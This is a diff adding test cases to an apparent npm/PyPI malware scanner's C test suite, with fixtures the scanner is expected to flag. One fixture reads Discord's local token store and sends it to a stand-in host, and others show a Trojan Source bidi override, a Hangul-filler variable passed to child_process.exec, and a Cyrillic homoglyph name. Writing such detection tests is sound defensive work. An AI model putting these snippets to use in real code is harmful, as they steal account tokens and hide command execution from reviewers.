@@ -60,6 +60,12 @@ int main(void)
 	                                    "cp.spawn('go', [], { env });\nhttp.get('http://127.0.0.1/');\n", NULL };
 	ok(judge("npm", child_env, "exfiltration", NULL) == SEV_CLEAR, "{ ...process.env } for a child is not a dump");
 
+	const char *discord[] = { "d.js", "const p = process.env.APPDATA + '\\\\discord\\\\Local Storage\\\\leveldb';\n"
+	                                  "const t = fs.readdirSync(p).map(f => fs.readFileSync(p + f)).join('');\n"
+	                                  "require('https').request({ host: 'h.example.invalid' }).end(t);\n", NULL };
+	ok(judge("npm", discord, "exfiltration", NULL) == SEV_CRITICAL,
+	   "Discord token store read through one-letter names, sent by require('https').request().end()");
+
 	/* Decoded code executed. */
 	const char *b64[] = { "i.js", "const payload = 'Y29uc29sZS5sb2coMSk=';\n"
 	                              "const code = Buffer.from(payload, 'base64').toString('utf8');\neval(code);\n", NULL };
@@ -129,6 +135,19 @@ int main(void)
 	ok(judge("pypi", clip, "clipboard-hijack", NULL) == SEV_HIGH, "the clipboard read and rewritten");
 	const char *clip_read[] = { "c/__init__.py", "import pyperclip\nt = pyperclip.paste()\n", NULL };
 	ok(judge("pypi", clip_read, "clipboard-hijack", NULL) == SEV_CLEAR, "the clipboard only read is not a hijack");
+
+	/* Unicode. */
+	const char *bidi[] = { "b.js", "if (level != 'user\xe2\x80\xae \xe2\x81\xa6// admin\xe2\x81\xa9') {}\n", NULL };
+	ok(judge("npm", bidi, "bidi-control", NULL) == SEV_HIGH, "a right-to-left override in a string (Trojan Source)");
+	const char *hangul[] = { "h.js", "const { t, \xe3\x85\xa4 } = req.query;\nrequire('child_process').exec(\xe3\x85\xa4);\n", NULL };
+	ok(judge("npm", hangul, "invisible-identifier", NULL) == SEV_HIGH, "a Hangul filler used as a variable name");
+	const char *cyr[] = { "c.js", "const \xd1\x81hild = require('x');\n", NULL };
+	ok(judge("npm", cyr, "homoglyph-identifier", NULL) == SEV_HIGH, "a Cyrillic letter inside a Latin name");
+	const char *kurdish[] = { "ku.js", "function f(input) {\n  return /\xd8\xa6\xe2\x80\x8c\xd9\x88/.test(input);\n}\n"
+	                                   "const s = '\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82';\n", NULL };
+	int quiet = judge("npm", kurdish, "invisible-identifier", NULL) == SEV_CLEAR &&
+	            judge("npm", kurdish, "homoglyph-identifier", NULL) == SEV_CLEAR;
+	ok(quiet, "a zero-width non-joiner in a Kurdish regex after return, and Russian in a string, are text");
 
 	char who[512] = "";
 	ok(fixture_quiet_on_clean(&review_flow, SEV_LOW, who, sizeof who), "quiet on the real packages %s", who);
